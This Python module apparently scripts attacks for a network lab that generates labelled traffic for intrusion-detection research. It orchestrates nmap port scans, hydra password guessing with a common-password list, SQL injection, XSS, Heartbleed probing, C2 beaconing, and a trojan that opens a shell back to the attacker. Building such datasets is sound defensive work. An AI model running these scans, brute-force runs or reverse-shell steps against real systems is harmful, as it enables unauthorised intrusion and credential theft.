"""Attacks that look for a way in, with the tools that attackers use, a few seconds each and bounded in count."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path

from lab.labels import TCP
from lab.scenarios import Scenario, Stage
from lab.servers import (
    USER,
    start_command_and_control,
    start_dns,
    start_ftp,
    start_heartbleed,
    start_infiltrator,
    start_ssh,
    start_web,
)

_PASSWORDS = (
    "123456",
    "password",
    "12345678",
    "qwerty",
    "123456789",
    "12345",
    "1234",
    "111111",
    "1234567",
    "dragon",
    "123123",
    "baseball",
    "abc123",
    "football",
    "monkey",
    "letmein",
    "696969",
    "shadow",
    "master",
    "666666",
    "qwertyuiop",
    "123321",
    "mustang",
    "1234567890",
)


def _scan(*options: str, tool: str, host: str = "web", family: int = 4) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        scanner, target = stage.host("mallory"), stage.host(host)
        source, address = (scanner.ipv4, target.ipv4) if family == 4 else (scanner.ipv6, target.ipv6)
        with stage.label("PortScan", tool, source, address):
            scanner.run("nmap", "-n", "-Pn", *options, address, timeout_s=90, check=True)

    return action


def word_list(folder: Path, name: str = "words.txt", words: Sequence[str] = _PASSWORDS) -> str:
    """Write a list of words, passwords unless told, and return its path."""
    path = folder / name
    path.write_text("\n".join(words) + "\n")
    return str(path)


def _hydra(class_name: str, service: str, host: str, port: int, *options: str) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("trudy"), stage.host(host)
        words = [
            "-l",
            "admin" if host == "web" else USER,
            "-P",
            word_list(attacker.folder),
            "-t",
            "4",
            "-w",
            "3",
            "-I",
        ]
        with stage.label(class_name, f"hydra {service}", attacker.ipv4, target.ipv4, port, TCP):
            attacker.run("hydra", *words, target.ipv4, service, *options, timeout_s=60)

    return action


def _web_attack(kind: str, class_name: str) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("trudy"), stage.host("web")
        with stage.label(class_name, f"web_attacks {kind}", attacker.ipv4, target.ipv4, 80, TCP):
            attacker.run_module("lab.tools.web_attacks", kind, target.ipv4)

    return action


def beacon(
    stage: Stage, count: int = 6, interval_s: float = 2.0, port: int = 8443, client: str = "carol", seed: int = 1
) -> None:
    """Let an infected host report to `c2`."""
    infected, c2 = stage.host(client), stage.host("c2")
    with stage.label("Bot", "beacon", infected.ipv4, c2.ipv4, port, TCP):
        words = [c2.ipv4, "--count", str(count), "--interval-s", str(interval_s)]
        words += ["--port", str(port), "--seed", str(seed)]
        infected.run_module("lab.tools.beacon", *words, timeout_s=count * interval_s * 1.1 + 30)


def _heartbleed(stage: Stage) -> None:
    attacker, target = stage.host("mallory"), stage.host("web")
    words = ["-n", "-Pn", "-sT", "-p", "4433", "--script", "ssl-heartbleed", target.ipv4]
    with stage.label("Heartbleed", "nmap ssl-heartbleed", attacker.ipv4, target.ipv4, 4433, TCP):
        for _ in range(3):
            attacker.run("nmap", *words, timeout_s=40, check=True)


def _infiltration(stage: Stage) -> None:
    """Let `alice` fetch a trojan, open a shell to its maker, and be used to scan the inside."""
    victim, attacker = stage.host("alice"), stage.host("trudy")
    with stage.label("Infiltration", "infiltration", victim.ipv4, attacker.ipv4, None, TCP):
        victim.run_module("lab.tools.infiltration", "implant", attacker.ipv4, "4444", "8000")
    inside = [stage.host(name).ipv4 for name in ("files", "dns")]
    for address in inside:
        with stage.label("Infiltration", "nmap -sT from inside", victim.ipv4, address, None, TCP):
            victim.run("nmap", "-n", "-Pn", "-sT", "--top-ports", "60", "--max-rate", "60", address, check=True)


_WEB, _SSH, _FTP = ("nginx", "openssl"), ("sshd", "openssl"), ("vsftpd", "openssl")
_FORM = "/app/login:user=^USER^&password=^PASS^:incorrect"

ATTACK_SCENARIOS = (
    Scenario(
        "scan-syn",
        "Half-open scan of 300 ports.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-sS", "--top-ports", "300", "--max-rate", "150", tool="nmap -sS"),
    ),
    Scenario(
        "scan-connect",
        "Scan of 300 ports with full connections.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-sT", "--top-ports", "300", "--max-rate", "150", tool="nmap -sT"),
    ),
    Scenario(
        "scan-udp",
        "UDP scan of 12 ports; most are answered by ICMP.",
        ("PortScan",),
        ("dnsmasq", "nmap"),
        (start_dns,),
        _scan("-sU", "--top-ports", "12", "--max-retries", "2", tool="nmap -sU", host="dns"),
    ),
    Scenario(
        "scan-version",
        "Service and version detection.",
        ("PortScan",),
        (*_SSH, "vsftpd", "nmap"),
        (start_ssh, start_ftp),
        _scan("-sV", "-p", "21,22,80,443,3306", tool="nmap -sV", host="files"),
    ),
    Scenario(
        "scan-slow",
        "Half-open scan with half a second between probes.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-sS", "--top-ports", "24", "--scan-delay", "500ms", tool="nmap -sS --scan-delay 500ms"),
    ),
    Scenario(
        "scan-ipv6",
        "Half-open scan of 200 ports over IPv6.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-6", "-sS", "--top-ports", "200", "--max-rate", "150", tool="nmap -6 -sS", family=6),
    ),
    Scenario(
        "brute-ssh",
        "Password guessing over SSH.",
        ("SSH-Patator",),
        (*_SSH, "hydra"),
        (start_ssh,),
        _hydra("SSH-Patator", "ssh", "files", 22),
    ),
    Scenario(
        "brute-ftp",
        "Password guessing over FTP.",
        ("FTP-Patator",),
        (*_FTP, "hydra"),
        (start_ftp,),
        _hydra("FTP-Patator", "ftp", "files", 21),
    ),
    Scenario(
        "brute-web",
        "Password guessing at a login form.",
        ("Web Attack – Brute Force",),
        (*_WEB, "hydra"),
        (start_web,),
        _hydra("Web Attack – Brute Force", "http-post-form", "web", 80, _FORM),
    ),
    Scenario(
        "sql-injection",
        "SQL in an item number and in a login form.",
        ("Web Attack – Sql Injection",),
        _WEB,
        (start_web,),
        _web_attack("sql", "Web Attack – Sql Injection"),
    ),
    Scenario(
        "xss",
        "Scripts in a search field.",
        ("Web Attack – XSS",),
        _WEB,
        (start_web,),
        _web_attack("xss", "Web Attack – XSS"),
    ),
    Scenario(
        "beacon", "An infected host reporting every two seconds.", ("Bot",), (), (start_command_and_control,), beacon
    ),
    Scenario(
        "heartbleed",
        "Heartbeats that ask for more than they brought.",
        ("Heartbleed",),
        (*_WEB, "nmap"),
        (start_heartbleed,),
        _heartbleed,
    ),
    Scenario(
        "infiltration",
        "A trojan, a shell to its maker, and a scan from inside.",
        ("Infiltration",),
        (*_SSH, "dnsmasq", "nmap"),
        (start_ssh, start_dns, start_infiltrator),
        _infiltration,
    ),
)
